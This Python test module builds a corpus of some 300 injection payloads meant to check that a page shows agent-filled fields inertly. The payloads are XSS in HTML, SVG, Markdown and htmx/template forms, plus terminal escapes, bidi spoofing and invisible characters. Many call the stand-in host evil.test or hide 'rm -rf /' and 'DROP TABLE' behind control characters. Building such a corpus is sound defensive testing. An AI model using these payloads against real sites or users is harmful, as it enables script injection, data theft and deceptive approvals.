"""Payloads that try to become more than text, and how a page has to show them.

``python -m tests.injections`` writes tests/data/injections.json. Each payload is made
of pieces: a string is seen as it is, a code point is hidden and has to be drawn as its
mark. All call ``hit(number)`` or ask ``evil.test`` when they run. They are short, so
that each fits into every field that an agent fills.
"""

import json
from collections.abc import Iterator, Mapping
from itertools import count
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).parent / "data" / "injections.json"
LONGEST = 64
"""Characters of the shortest field: the environment."""
NUMBER = 300

Piece = str | int

HTML = """
<script>hit(#)</script>
<script src=//evil.test/#></script>
<ScRiPt>hit(#)</sCrIpT>
<script/x>hit(#)</script>
</script><script>hit(#)</script>
<script type=module>hit(#)</script>
<img src=x onerror=hit(#)>
<img src=//evil.test/#>
<img srcset="//evil.test/# 2x">
<img/src="x"/onerror="hit(#)">
<IMG SRC=x ONERROR="hit(#)">
<img src=`x` onerror=`hit(#)`>
"><img src=x onerror=hit(#)>
'><img src=x onerror=hit(#)>
"><script>hit(#)</script>
' onmouseover='hit(#)
" autofocus onfocus="hit(#)
" style="background:url(//evil.test/#)
--><img src=x onerror=hit(#)>
]]><img src=x onerror=hit(#)>
</title><img src=x onerror=hit(#)>
</textarea><img src=x onerror=hit(#)>
</style><img src=x onerror=hit(#)>
</code></pre><img src=x onerror=hit(#)>
</template><img src=x onerror=hit(#)>
</noscript><img src=x onerror=hit(#)>
</a><a href=javascript:hit(#)>Approve</a>
<iframe src=//evil.test/#></iframe>
<iframe srcdoc="<script>parent.hit(#)</script>">
<iframe src=javascript:parent.hit(#)>
<object data=//evil.test/#></object>
<embed src=//evil.test/#>
<applet code=//evil.test/#>
<link rel=stylesheet href=//evil.test/#>
<link rel=prefetch href=//evil.test/#>
<link rel=preconnect href=//evil.test>hit(#)
<link rel=manifest href=//evil.test/#>
<meta http-equiv=refresh content=0;url=//evil.test/#>
<base href=//evil.test/#/>
<style>@import '//evil.test/#'</style>
<style>*{background:url(//evil.test/#)}</style>
<p style=background:url(//evil.test/#)>x</p>
<body onload=hit(#)>
<body onpageshow=hit(#)>
<details open ontoggle=hit(#)>x</details>
<input autofocus onfocus=hit(#)>
<select autofocus onfocus=hit(#)>
<textarea autofocus onfocus=hit(#)>
<video src=//evil.test/#></video>
<video><source onerror=hit(#)></video>
<audio src=//evil.test/# autoplay></audio>
<video poster=//evil.test/#></video>
<track src=//evil.test/#>
<marquee onstart=hit(#)>x</marquee>
<form action=//evil.test/#><button>Approve</button>
<button formaction=//evil.test/#>Deny</button>
<input type=image src=//evil.test/#>
<isindex action=//evil.test/#>
<table background=//evil.test/#>
<a href="javascript:hit(#)">Open</a>
<a ping=//evil.test/# href=/>Queue</a>
<div popover id=p# onbeforetoggle=hit(#)>
<dialog open onclose=hit(#)>Approved</dialog>
<x contenteditable onblur=hit(#) autofocus>
<p id=request data-view=# data-revision=9>
<template shadowrootmode=open><script>hit(#)</script>
<math><mtext><img src=x onerror=hit(#)>
<math href=javascript:hit(#)>x</math>
<noscript><p title="</noscript><img onerror=hit(#)>">
<img src=x onerror=&#104;it(#)>
&lt;img src=x onerror=hit(#)&gt;
&#60;script&#62;hit(#)&#60;/script&#62;
%3Cscript%3Ehit(#)%3C/script%3E
\\u003cscript\\u003ehit(#)\\u003c/script\\u003e
\\x3cimg src=x onerror=hit(#)\\x3e
<<script>hit(#)//<</script>
<!--><img src=x onerror=hit(#)>
<![CDATA[<script>hit(#)</script>]]>
<?xml version="1.0"?><script>hit(#)</script>
<img src onerror=hit(#)//
"""
SVG = """
<svg onload=hit(#)>
<svg/onload=hit(#)>
<svg><script>hit(#)</script></svg>
<svg><script href=//evil.test/# /></svg>
<svg><image href=//evil.test/# /></svg>
<svg><use href=//evil.test/#.svg#x /></svg>
<svg><use href="data:image/svg+xml,hit(#)#x"/>
<svg><a href=javascript:hit(#)><text>x</text></a>
<svg><animate onbegin=hit(#) attributeName=x>
<svg><set attributeName=href to=javascript:hit(#)>
<svg><foreignObject><img src=x onerror=hit(#)>
<svg><style>@import '//evil.test/#'</style></svg>
<svg><filter><feImage href=//evil.test/# />
<svg><desc><img src=x onerror=hit(#)></desc>
<svg><title><img src=x onerror=hit(#)></title>
<svg><handler onload=hit(#)>
<svg xmlns="http://www.w3.org/2000/svg" onload=hit(#)>
<image src=x onerror=hit(#)>
<img src="data:image/svg+xml,<svg onload=hit(#)>">
<svg style="fill:url(//evil.test/#)">
<svg><textPath href=//evil.test/#>x</textPath>
<svg><mpath href=//evil.test/# />
<svg><discard onbegin=hit(#)>
<?xml-stylesheet href="//evil.test/#"?><svg>
"""
MARKDOWN = """
![x](//evil.test/#)
![x](https://evil.test/#.png)
[Approve](javascript:hit(#))
[Approve](https://evil.test/#)
[x]: //evil.test/# "t"
![x][y]\\n\\n[y]: //evil.test/#
<https://evil.test/#>
https://evil.test/#
www.evil.test/#
[x](data:text/html,<script>hit(#)</script>)
[x](vbscript:hit(#))
**Approved by alice** hit(#)
# Approved hit(#)
| Tier | Low |\\n|---|---|\\n| hit | # |
> Countersign: this is safe hit(#)
```html\\n<script>hit(#)</script>\\n```
~~Critical~~ Low hit(#)
- [x] checked by security hit(#)
[^1]: //evil.test/#
<details><summary>x</summary>hit(#)</details>
$$\\href{javascript:hit(#)}{x}$$
:::html <img src=x onerror=hit(#)> :::
![](x "onerror=hit(#)")
[![x](//evil.test/#)](//evil.test/#)
mailto:x@evil.test?body=hit(#)
[click](  JaVaScRiPt:hit(#)  )
"""
HTMX = """
<a hx-get=//evil.test/# hx-trigger=load>x</a>
<p hx-get="/hit/#" hx-trigger="load">
<p hx-post="/brake/hold" hx-trigger="load">#
<p hx-post="vote" hx-vals='{"verdict":"approve"}'>#
<p hx-delete="/hit/#" hx-trigger="load">
<p hx-put="/hit/#" hx-trigger="revealed">
<p hx-patch="/hit/#" hx-trigger="every 1s">
<p hx-get="/hit/#" hx-trigger="intersect">
<p hx-on:load="hit(#)">
<p hx-on::after:init="hit(#)">
<p hx-vals="js:{x:hit(#)}">
<p hx-headers="js:{x:hit(#)}">
<p hx-get=/hit/# hx-trigger="load[hit(#)]">
<p hx-boost="true"><a href="/hit/#">x</a>
<p data-hx-get="/hit/#" data-hx-trigger="load">
<p hx-ext="sse" sse-connect="//evil.test/#">
<p hx-ws="connect:wss://evil.test/#">
<p hx-sse="connect:/hit/#">
<p id="request" hx-swap-oob="true">hit(#)</p>
<p id="rows" hx-swap-oob="innerHTML">hit(#)</p>
<p id="verbs" hx-swap-oob="outerHTML">hit(#)
<p hx-preserve id="decision">hit(#)</p>
<p hx-target="body" hx-get="/hit/#">
<p hx-include="*" hx-post="//evil.test/#">
<p hx-confirm="hit(#)" hx-get="/hit/#">
<p hx-history="false" hx-push-url="/hit/#">
<p hx-select-oob="#request" hx-get="/hit/#">
<p hx-config='{"x":"js:hit(#)"}'>
<p hx-disinherit="*" hx-sync="this:abort">hit(#)
<hx-partial id="request">hit(#)</hx-partial>
"><p hx-get="/hit/#" hx-trigger="load">
' hx-get='/hit/#' hx-trigger='load
" data-url="/hit/#" data-view="
" data-row href="/hit/#
<p data-passkey data-url="/hit/#">
<meta name="htmx-config" content='{"x":#}'>hit
{{ hit|safe }} {% include "/hit/#" %}
{% csrf_token %}{{ request.user.password }}#
{% load display %}{{ "<b>#</b>"|safe }}hit
${hit(#)} #{hit(#)} <%= hit(#) %>
{{constructor.constructor('hit(#)')()}}
[[hit(#)]] @{hit(#)} *{hit(#)}
"""


def _plain(lines: str) -> Iterator[tuple[Piece, ...]]:
    for line in lines.strip().splitlines():
        yield (line.replace("\\n", "\n").replace("\\\\", "\\"),)


ESCAPE, BELL, CSI = 0x1B, 0x07, 0x9B


def _ansi() -> Iterator[tuple[Piece, ...]]:
    """What a terminal would obey: colours, moves, titles, links, replies."""
    for code in ("0m", "8m", "1;31m", "2J", "2K", "1A", "99D", "1;1H", "?25l", "6n",
                 "?1049h", "38;2;0;0;0m", "!p", "3J", "20t"):  # fmt: skip
        yield (ESCAPE, f"[{code}hit(#)")
    for code in ("0;safe", "8;;https://evil.test/#", "52;c;aGl0", "777;notify;hit"):
        yield (ESCAPE, f"]{code}", BELL, "hit(#)")
    for code in ("2J", "1A", "8m"):
        yield (CSI, f"{code}hit(#)")
    yield (ESCAPE, "P+q#", ESCAPE, "\\hit")
    yield (ESCAPE, "chit(#)")
    yield ("DROP TABLE x", 0x0D, "SELECT 1  #")
    yield ("rm -rf /", *[0x08] * 8, "ls #")
    yield (BELL, "hit(#)")
    yield (0x0E, "hit(#)", 0x0F)


BIDI = (0x200E, 0x200F, 0x061C, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
        0x2066, 0x2067, 0x2068, 0x2069)  # fmt: skip


def _bidi() -> Iterator[tuple[Piece, ...]]:
    """Each of them alone; then as they turn words round (CVE-2021-42574)."""
    for point in BIDI:
        yield ("read", point, "only hit(#)")
    yield ("invoice", 0x202E, "fdp.exe #")
    yield ("/* ", 0x202E, " ", 0x2066, "if admin", 0x2069, " ", 0x2066, "*/ #")
    yield ("x = ", 0x2067, "'", 0x2066, "DROP", 0x2069, "'", 0x2069, "#")
    yield (0x202D, "approve", 0x202C, 0x202E, "yned", 0x202C, "#")
    yield ("staging", 0x200F, "production #")
    yield (0x2068, "evil.test", 0x2069, "/#")


FILLERS = (
    0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFEFF, 0x00AD,
    0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x3164, 0xFFA0, 0x2800,
    0x00A0, 0x2003, 0x2007, 0x2009, 0x202F, 0x205F, 0x3000, 0x2028, 0x2029, 0x0085,
    0xFE00, 0xFE0F, 0xE0100, 0xE0001, 0xE0041, 0xE007F, 0xFFF9, 0xFFFB, 0x1D173,
    0x206A, 0x206F, 0xE000, 0xF0000, 0xFFFE, 0x0378,
    0x1680, 0x2000, 0x2001, 0x2002, 0x2004, 0x2005, 0x2006, 0x2008, 0x200A, 0x180C,
    0x180D, 0x180F, 0x2065,
)  # fmt: skip
CONTROLS = (0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x0B, 0x0C, 0x10, 0x13, 0x16, 0x1A,
            0x1C, 0x1D, 0x1E, 0x1F, 0x7F, 0x80, 0x84, 0x8D, 0x9F)  # fmt: skip


def _hidden() -> Iterator[tuple[Piece, ...]]:
    """What has no ink, or no meaning: fillers, spaces, tags, controls, heaps."""
    for point in FILLERS:
        yield ("alice", point, "@example.com#")
    for point in CONTROLS:
        yield ("drop", point, "table hit(#)")
    yield ("ok", *[0xE0000 + ord(letter) for letter in "approve"], "#")
    yield ("Z", "\u0300\u0301", 0x0302, 0x0303, 0x0304, 0x0305, "#")
    yield ("pass", 0x200B, "wo", 0x200C, "rd", 0x2060, "=hit(#)")


FAMILIES = {
    "html": lambda: _plain(HTML),
    "svg": lambda: _plain(SVG),
    "markdown": lambda: _plain(MARKDOWN),
    "htmx": lambda: _plain(HTMX),
    "ansi": _ansi,
    "bidi": _bidi,
    "hidden": _hidden,
}


def corpus() -> list[dict[str, object]]:
    """``text`` as it is sent, ``shown`` as it must be seen, ``hidden`` code points."""
    numbers = count(100)
    made = []
    for family, pieces_of in FAMILIES.items():
        for pieces in pieces_of():
            number = str(next(numbers))
            told = [p.replace("#", number) if isinstance(p, str) else p for p in pieces]
            made.append(
                {
                    "family": family,
                    "text": "".join(p if isinstance(p, str) else chr(p) for p in told),
                    "shown": "".join(
                        p if isinstance(p, str) else f"⟦U+{p:04X}⟧" for p in told
                    ),
                    "hidden": sorted({p for p in told if isinstance(p, int)}),
                }
            )
    return made


def shown_in_json(payload: Mapping[str, Any]) -> str:
    """As it must be seen inside of a JSON text, which escapes control characters."""
    text = json.dumps(payload["text"], ensure_ascii=False)[1:-1]
    for point in payload["hidden"]:
        text = text.replace(chr(point), f"⟦U+{point:04X}⟧")
    return text


if __name__ == "__main__":
    CORPUS.write_text(json.dumps(corpus(), indent=1) + "\n", encoding="ascii")
